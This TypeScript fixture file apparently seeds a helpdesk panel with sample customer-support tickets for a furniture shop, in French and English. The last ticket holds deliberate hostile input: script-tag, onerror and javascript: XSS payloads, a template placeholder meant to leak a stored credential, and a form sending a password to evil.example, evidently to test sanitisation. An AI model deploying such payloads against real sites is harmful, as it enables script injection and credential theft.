import type { Kit, PastDraft } from './kit';
import { agent, bot, customer, customerHtml, stub } from './lines';
import { days } from '../time';

/** Solved, rated and closed: nothing can be added to it any more. */
export function closed(kit: Kit): void {
  kit.order({
    number: 16958,
    buyer: 'helene',
    lines: [['halo', 0, 1]],
    parcels: [{ daysAgo: 36, carrier: 'Colissimo', deliveredDaysAgo: 33, displayStatus: 'DELIVERED' }],
  });
  kit.ticket('closed', {
    requester: 'helene',
    assignee: 'sophie',
    group: 'fr',
    bot: 'leo',
    status: 'closed',
    tags: ['bot_handover', 'livraison'],
    rating: { score: 'good', comment: 'Très rapide, merci Sophie !' },
    lines: [
      bot(
        days(34),
        "Bonjour ! Je suis Léo, l'assistant virtuel d'Atelier Nord. Que puis-je faire pour vous ?",
        'Suivre ma commande',
        'Retour ou échange',
        'Autre question',
      ),
      customer(days(34) - 1, 'Suivre ma commande'),
      bot(days(34) - 1, 'Quel est votre numéro de commande ?'),
      customer(days(34) - 2, '16958'),
      bot(days(34) - 2, 'Je ne trouve pas cette commande, je vous passe un conseiller.'),
      stub(days(34) - 3),
      agent(
        days(34) - 9,
        'sophie',
        `Bonjour Hélène, votre miroir Halo est à Angers, en livraison demain ${kit.day(33, 'fr')}. Vous recevrez un SMS de Colissimo le matin.`,
      ),
      customer(days(34) - 12, 'Super, merci beaucoup !'),
      agent(days(34) - 13, 'sophie', 'Avec plaisir, bonne journée !'),
    ],
  });
}

/** What the panel finds under "past tickets". */
export function pastTickets(kit: Kit): void {
  for (const draft of PAST) kit.past(draft);
}

const solved = { assignee: 'sophie', group: 'fr', status: 'closed' } as const;

const PAST: PastDraft[] = [
  {
    ...solved,
    id: 8411,
    requester: 'marie',
    subject: 'Colis pas arrivé',
    tags: ['livraison'],
    rating: { score: 'good' },
    lines: [
      customer(
        days(240),
        'Bonjour, ma commande 16520 devait arriver hier, toujours rien. Où est-elle ?\n\nMarie Durand',
      ),
      agent(
        days(239.8),
        'sophie',
        'Bonjour Marie,\n\nVotre colis a pris un jour de retard au centre de tri de Lyon. Colissimo annonce une livraison demain. Je garde un œil dessus.\n\nSophie',
      ),
      customer(days(238), 'Bien reçu aujourd’hui, merci !'),
    ],
  },
  {
    ...solved,
    id: 8509,
    requester: 'marie',
    assignee: 'karim',
    subject: 'Plaid Vega : fil tiré',
    tags: ['produit_abime'],
    rating: { score: 'good', comment: 'Efficace' },
    lines: [
      customer(
        days(66),
        'Bonjour, le plaid de la commande 16871 a un fil tiré sur 5 cm (photo jointe). Je peux le garder mais ce n’est pas normal.',
        { name: 'plaid.jpg', type: 'image/jpeg', size: 920_114 },
      ),
      agent(
        days(65),
        'karim',
        'Bonjour Marie,\n\nMerci pour la photo. Je vous propose un geste de 15,00 € si vous gardez le plaid, ou un échange. Que préférez-vous ?\n\nKarim',
      ),
      customer(days(65) - 90, 'Le geste me va très bien, merci.'),
      agent(days(64), 'karim', 'C’est fait : 15,00 € remboursés sur votre carte, sous 3 à 5 jours.\n\nKarim'),
    ],
  },
  {
    ...solved,
    id: 8530,
    requester: 'marie',
    subject: 'Changement d’adresse e-mail',
    lines: [
      customer(
        days(48),
        'Bonjour, je souhaite recevoir vos messages sur marie.durand@example.fr et plus sur l’ancienne adresse. Merci',
      ),
      agent(days(47.8), 'sophie', 'Bonjour Marie,\n\nC’est modifié. Bonne journée !\n\nSophie'),
    ],
  },
  {
    ...solved,
    id: 8546,
    requester: 'nadia',
    subject: 'Rideaux Sol, hauteur ?',
    lines: [
      customer(days(62), 'Bonjour, quelle est la hauteur des rideaux Sol ? Peut-on les raccourcir ?'),
      agent(
        days(61.7),
        'sophie',
        'Bonjour Nadia,\n\nIls mesurent 250 cm et se raccourcissent avec le ruban thermocollant fourni.\n\nSophie',
      ),
    ],
  },
  {
    ...solved,
    id: 8561,
    requester: 'charlotte',
    assignee: 'james',
    group: 'en',
    subject: 'Lund wall lights, two missing fixings',
    tags: ['vip', 'missing_part'],
    rating: { score: 'good', comment: 'Sorted the same day.' },
    lines: [
      customer(
        days(40),
        'Dear James, two of the ten Lund wall lights (order 16940) came without fixings. Could you courier them? C.',
      ),
      agent(
        days(40) - 60,
        'james',
        'Dear Charlotte,\n\nThey are with UPS and will be with you tomorrow before noon.\n\nJames',
      ),
    ],
  },
  {
    ...solved,
    id: 8577,
    requester: 'bernard',
    subject: 'Délai de livraison bureau Aarhus',
    status: 'solved',
    lines: [
      customer(days(15), 'Bonjour, si je commande le bureau Aarhus aujourd’hui, quand serai-je livré ?'),
      agent(days(14.8), 'sophie', 'Bonjour Monsieur Caron,\n\nComptez 6 à 8 jours pour Dijon.\n\nSophie'),
    ],
  },
  {
    ...solved,
    id: 8580,
    requester: 'hannah',
    assignee: 'megan',
    group: 'en',
    subject: 'Side table: colour is different',
    tags: ['return'],
    lines: [
      customer(
        days(20),
        'Hello, the walnut of the Fjord table (order 16985) is much darker than on your site. I would like to return it.',
      ),
      agent(
        days(19),
        'megan',
        'Hello Hannah,\n\nI am sorry that the colour is not what you expected. Please find the return label attached, it is free of charge.\n\nMegan',
      ),
    ],
  },
  {
    ...solved,
    id: 8583,
    requester: 'emily',
    assignee: 'tom',
    group: 'en',
    subject: 'Discount code not working',
    lines: [
      customer(days(9), 'Hi, the code WELCOME10 is not accepted, what am I doing wrong?'),
      agent(
        days(8.9),
        'tom',
        'Hi Emily,\n\nThe code is for orders from £50. Your basket is at £45, so nearly there!\n\nTom',
      ),
    ],
  },
  {
    ...solved,
    id: 8590,
    requester: 'hostile',
    assignee: 'aisha',
    group: 'en',
    status: 'pending',
    subject: '<script>alert(1)</script> {{setting.shopify_static_credential}}',
    tags: ['<b>tag</b>'],
    lines: [
      customerHtml(
        days(2),
        'Where is my order #1044? {{setting.shopify_static_credential}} <script>alert(1)</script>',
        `<div class="zd-comment" dir="auto"><p>Where is my order #1044? {{setting.shopify_static_credential}}</p><script>alert('html')</script><img src=x onerror="alert('img')"><a href="javascript:alert('link')" onclick="alert('click')">my order</a><style>body{display:none}</style><form action="https://evil.example/"><input name="password"></form></div>`,
        { name: 'invoice.html', type: 'text/html', size: 666 },
      ),
    ],
  },
];
